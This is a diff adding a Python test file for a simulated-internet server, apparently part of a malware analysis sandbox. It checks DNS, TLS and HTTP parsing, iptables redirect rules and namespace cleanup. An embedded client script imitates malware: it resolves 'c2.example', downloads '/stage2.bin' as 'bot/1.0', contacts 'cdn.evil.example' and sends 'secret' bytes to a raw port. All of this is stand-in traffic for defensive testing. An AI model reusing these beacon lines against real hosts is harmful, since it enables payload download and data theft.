@@ -1,0 +1,283 @@
+"""The simulated internet: protocol parsing (pure) and the real server in a real network
+namespace (``sandbox`` marker: root, iproute2, iptables, nsenter)."""
+
+from __future__ import annotations
+
+import json
+import os
+import socket
+import ssl
+import struct
+import subprocess
+import sys
+import time
+from pathlib import Path
+
+import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+
+from mailvm.guest import fakenet as F
+from mailvm.guest.sandbox import Netns, sandbox_tools
+
+# ------------------------------------------------------------------ DNS (pure)
+
+
+def query(name: str, qtype: int = 1, qid: int = 0x1234) -> bytes:
+    labels = b"".join(bytes([len(p)]) + p.encode() for p in name.split("."))
+    return struct.pack("!6H", qid, 0x0100, 1, 0, 0, 0) + labels + b"\0" + struct.pack("!HH", qtype, 1)
+
+
+def test_dns_query_round_trip_answers_with_the_given_address():
+    q = F.parse_dns_query(query("Updates.Example.TEST"))
+    assert q is not None and q.name == "updates.example.test" and q.qtype == 1 and q.id == 0x1234
+    resp = F.build_dns_response(q, "198.18.0.7")
+    qid, flags, qd, an, _, _ = struct.unpack("!6H", resp[:12])
+    assert (qid, qd, an) == (0x1234, 1, 1) and flags & 0x8000 and flags & 0x0100 and not flags & 0x000F
+    assert resp.endswith(socket.inet_aton("198.18.0.7"))
+    empty = F.build_dns_response(F.parse_dns_query(query("x.example", qtype=28)), None)
+    assert struct.unpack("!6H", empty[:12])[3] == 0 and len(empty) == len(query("x.example", 28))
+
+
+@pytest.mark.parametrize("data", [
+    b"", b"\x12\x34", query("a.b")[:-2],  # truncated
+    struct.pack("!6H", 1, 0x8180, 1, 0, 0, 0) + b"\x01a\x00\x00\x01\x00\x01",  # a response, not a query
+    struct.pack("!6H", 1, 0x0100, 1, 0, 0, 0) + b"\xc0\x0c\x00\x01\x00\x01",  # compression pointer loop
+    struct.pack("!6H", 1, 0x0100, 1, 0, 0, 0) + (b"\x3f" + b"a" * 63) * 5 + b"\0\0\1\0\1",  # name > 255
+    struct.pack("!6H", 1, 0x0100, 0, 0, 0, 0),  # no question
+])
+def test_malformed_dns_is_rejected(data):
+    assert F.parse_dns_query(data) is None
+
+
+@settings(max_examples=500, deadline=None)
+@given(st.binary(max_size=600))
+def test_dns_parser_never_raises(data):
+    q = F.parse_dns_query(data)
+    if q is not None:
+        F.build_dns_response(q, "198.18.0.1")
+
+
+def test_address_book_is_stable_distinct_and_bounded():
+    book = F.AddressBook(max_names=3)
+    a, b = book.address_for("a.example"), book.address_for("b.example")
+    assert a == book.address_for("a.example") and a != b
+    assert book.name_for(a) == "a.example" and book.name_for("203.0.113.1") is None
+    assert all(ip.startswith("198.18.") or ip.startswith("198.19.") for ip in (a, b))
+    book.address_for("c.example")
+    overflow = book.address_for("d.example")
+    assert overflow == book.address_for("e.example") and book.name_for(overflow) is None
+
+
+# ------------------------------------------------------------------ TCP protocols (pure)
+
+
+def client_hello(server_name: str | None) -> bytes:
+    """A real ClientHello from Python's own TLS stack."""
+    ctx = ssl.create_default_context()
+    if server_name is None:
+        ctx.check_hostname = False
+    obj = ctx.wrap_bio(ssl.MemoryBIO(), out := ssl.MemoryBIO(), server_hostname=server_name)
+    with pytest.raises(ssl.SSLWantReadError):
+        obj.do_handshake()
+    return out.read()
+
+
+def test_tls_sni_from_a_real_client_hello():
+    hello = client_hello("cdn.evil.example")
+    assert F.parse_tls_sni(hello) == "cdn.evil.example"
+    assert F.first_chunk_complete(hello)
+    assert F.parse_tls_sni(client_hello(None)) is None
+    assert F.parse_tls_sni(hello[:40]) is None
+    assert F.parse_tls_sni(b"GET / HTTP/1.1\r\n\r\n") is None
+
+
+@settings(max_examples=300, deadline=None)
+@given(st.binary(max_size=400))
+def test_sni_parser_never_raises(data):
+    F.parse_tls_sni(b"\x16\x03\x01" + data)
+
+
+def test_http_head_parsing():
+    req = F.parse_http_head(b"GET /payload?x=1 HTTP/1.1\r\nHost: updates.example.test\r\nUser-Agent: Wget/1.21\r\n"
+                            b"X: \xff\r\n\r\n")
+    assert req == {"method": "GET", "target": "/payload?x=1",
+                   "headers": {"host": "updates.example.test", "user-agent": "Wget/1.21", "x": "\xff"}}
+    assert F.parse_http_head(b"GET http://proxy.example/a HTTP/1.0\n\n")["target"] == "http://proxy.example/a"
+    assert F.parse_http_head(b"\x16\x03\x01\x00") is None
+    assert F.parse_http_head(b"HELO bot\r\n") is None
+
+
+def test_what_counts_as_a_download_and_a_complete_first_chunk():
+    assert F.looks_like_download("/payload") and F.looks_like_download("/a/b.exe?x")
+    assert not F.looks_like_download("/") and not F.looks_like_download("/index.html")
+    assert not F.first_chunk_complete(b"GET / HTTP/1.1\r\nHost: x\r\n")
+    assert F.first_chunk_complete(b"GET / HTTP/1.1\r\n\r\n") and F.first_chunk_complete(b"\x00\x01binary")
+    assert not F.first_chunk_complete(b"\x16\x03\x01\x02\x00")
+
+
+def test_nat_rules_spare_loopback_and_redirect_the_rest():
+    rules = F.nat_rules(9)
+    assert "-A OUTPUT -p tcp -d 127.0.0.0/8 -j RETURN" in rules
+    assert "-A OUTPUT -p tcp -j REDIRECT --to-ports 9" in rules and rules.rstrip().endswith("COMMIT")
+
+
+# ------------------------------------------------------------------ the real server in a namespace
+
+
+def _reason() -> str | None:
+    if os.geteuid() != 0:
+        return "needs root"
+    tools, missing = sandbox_tools()
+    if missing:
+        return "missing: " + ", ".join(missing)
+    return None
+
+
+REASON = _reason()
+CLIENT = r"""
+import json, socket, ssl, struct, sys
+out = {}
+q = struct.pack("!6H", 7, 0x0100, 1, 0, 0, 0) + b"\x02c2\x07example\x00" + struct.pack("!HH", 1, 1)
+for server in ("127.0.0.53", "9.9.9.9"):
+    u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); u.settimeout(2)
+    u.connect((server, 53)); u.send(q)
+    out["dns_" + server] = socket.inet_ntoa(u.recv(512)[-4:])
+ip = out["dns_127.0.0.53"]
+s = socket.create_connection((ip, 8080), timeout=3)
+s.sendall(b"GET /stage2.bin HTTP/1.1\r\nHost: c2.example:8080\r\nUser-Agent: bot/1.0\r\n\r\n")
+data = b""
+while True:
+    chunk = s.recv(4096)
+    if not chunk:
+        break
+    data += chunk
+out["http"] = data.decode("latin-1")
+t = socket.create_connection(("192.0.2.77", 443), timeout=3)
+ctx = ssl.create_default_context()
+try:
+    ctx.wrap_socket(t, server_hostname="cdn.evil.example").close()
+except (ssl.SSLError, OSError) as exc:
+    out["tls"] = type(exc).__name__
+r = socket.create_connection(("10.1.2.3", 6000), timeout=3); r.sendall(b"\x00\x01secret"); r.close()
+m = socket.create_connection(("203.0.113.9", 25), timeout=3); out["smtp"] = m.recv(100).decode(); m.close()
+print(json.dumps(out))
+"""
+
+
+@pytest.fixture
+def namespace():
+    tools, _ = sandbox_tools()
+    ns = Netns(tools)
+    ns.create()
+    try:
+        yield tools, [tools["nsenter"], f"--net={ns.path}", "--"]
+    finally:
+        ns.delete()
+
+
+def _events(path: Path) -> list[dict]:
+    return [json.loads(line) for line in path.read_text().splitlines()]
+
+
+@pytest.mark.sandbox
+@pytest.mark.skipif(REASON is not None, reason=f"network namespace unavailable: {REASON}")
+def test_server_answers_dns_http_tls_and_logs_original_destinations(namespace, tmp_path):
+    tools, enter = namespace
+    redirect, detail = F.setup_namespace(enter, tools)
+    assert redirect, detail
+    events = tmp_path / "fakenet.jsonl"
+    net = F.FakeNet(enter, str(events), redirect)
+    t = time.monotonic()
+    net.start()
+    assert time.monotonic() - t < 1.0  # ready in well under a second
+    try:
+        r = subprocess.run(enter + ["/usr/bin/python3", "-I", "-c", CLIENT], capture_output=True, text=True,
+                           timeout=30)
+        assert r.returncode == 0, r.stderr
+        out = json.loads(r.stdout)
+    finally:
+        pid = net.proc.pid
+        net.stop()
+    assert not os.path.exists(f"/proc/{pid}") or open(f"/proc/{pid}/stat").read().split()[2] == "Z"
+    ip = out["dns_127.0.0.53"]
+    assert ip.startswith("198.18.") and out["dns_9.9.9.9"] == ip  # any resolver address works, same answer
+    assert out["http"].startswith("HTTP/1.1 200 OK") and F.PAYLOAD.decode() in out["http"]
+    assert out["tls"] in ("SSLError", "SSLEOFError", "ConnectionResetError", "SSLZeroReturnError")
+    assert out["smtp"].startswith("220 ")
+    evs = _events(events)
+    by = {}
+    for e in evs:
+        by.setdefault(e["type"], []).append(e)
+    assert by["ready"][0]["redirect"] is True
+    assert {e["name"] for e in by["dns"]} == {"c2.example"}
+    http = by["http"][0]
+    assert (http["url"], http["ua"], http["method"], http["served"], http["dst"], http["name"]) == (
+        "http://c2.example:8080/stage2.bin", "bot/1.0", "GET", "payload", f"{ip}:8080", "c2.example")
+    assert by["tls"][0]["sni"] == "cdn.evil.example" and by["tls"][0]["dst"] == "192.0.2.77:443"
+    raw = next(e for e in by["tcp_data"] if e["dst"] == "10.1.2.3:6000")
+    assert raw["preview"] == "\\x00\\x01secret" and raw["bytes"] == 8
+    assert {e["dst"] for e in by["tcp"]} >= {f"{ip}:8080", "192.0.2.77:443", "10.1.2.3:6000", "203.0.113.9:25"}
+    assert all(e["redirected"] for e in by["tcp"])
+
+
+@pytest.mark.sandbox
+@pytest.mark.skipif(REASON is not None, reason=f"network namespace unavailable: {REASON}")
+def test_fallback_listeners_without_iptables(namespace, tmp_path):
+    tools, enter = namespace
+    no_iptables = {k: v for k, v in tools.items() if k != "iptables-restore"}
+    redirect, detail = F.setup_namespace(enter, no_iptables)
+    assert not redirect and "not installed" in detail
+    events = tmp_path / "fakenet.jsonl"
+    net = F.FakeNet(enter, str(events), redirect)
+    net.start()
+    try:
+        client = ("import socket\n"
+                  "s = socket.create_connection(('203.0.113.5', 4444), timeout=3); s.sendall(b'hi'); s.close()\n"
+                  "try:\n    socket.create_connection(('203.0.113.5', 4445), timeout=3)\n"
+                  "except ConnectionRefusedError:\n    print('refused')\n")
+        r = subprocess.run(enter + ["/usr/bin/python3", "-I", "-c", client], capture_output=True, text=True,
+                           timeout=30)
+    finally:
+        net.stop()
+    assert r.returncode == 0 and r.stdout.strip() == "refused", r.stderr
+    evs = _events(events)
+    tcp = [e for e in evs if e["type"] == "tcp"]
+    assert len(tcp) == 1 and tcp[0]["dst"] == "203.0.113.5:4444" and tcp[0]["redirected"] is False
+    assert 4444 in next(e for e in evs if e["type"] == "ready")["ports"]
+
+
+@pytest.mark.sandbox
+@pytest.mark.skipif(REASON is not None, reason=f"network namespace unavailable: {REASON}")
+def test_server_exits_when_its_parent_dies(tmp_path):
+    """A killed agent must not leave fakenet (or the namespace holder) behind."""
+    code = (
+        "import sys, time\n"
+        f"sys.path.insert(0, {str(Path(__file__).resolve().parents[1])!r})\n"
+        "from mailvm.guest import fakenet as F\n"
+        "from mailvm.guest.sandbox import Netns, sandbox_tools\n"
+        "tools, _ = sandbox_tools(); ns = Netns(tools); ns.create()\n"
+        "enter = [tools['nsenter'], '--net=' + ns.path, '--']\n"
+        "F.setup_namespace(enter, tools)\n"
+        f"n = F.FakeNet(enter, {str(tmp_path / 'ev.jsonl')!r}, True); n.start()\n"
+        "print(n.proc.pid, ns.holder.pid, flush=True); time.sleep(60)\n"
+    )
+    parent = subprocess.Popen([sys.executable, "-c", code], stdout=subprocess.PIPE, text=True)
+    try:
+        fake_pid, holder_pid = map(int, parent.stdout.readline().split())
+        assert os.path.exists(f"/proc/{fake_pid}") and os.path.exists(f"/proc/{holder_pid}")
+    finally:
+        parent.kill()
+        parent.wait()
+    deadline = time.monotonic() + 5
+    while time.monotonic() < deadline and any(_alive(p) for p in (fake_pid, holder_pid)):
+        time.sleep(0.05)
+    assert not _alive(fake_pid) and not _alive(holder_pid)
+
+
+def _alive(pid: int) -> bool:
+    try:
+        with open(f"/proc/{pid}/stat") as fh:
+            return fh.read().rsplit(")", 1)[1].split()[0] != "Z"
+    except OSError:
+        return False
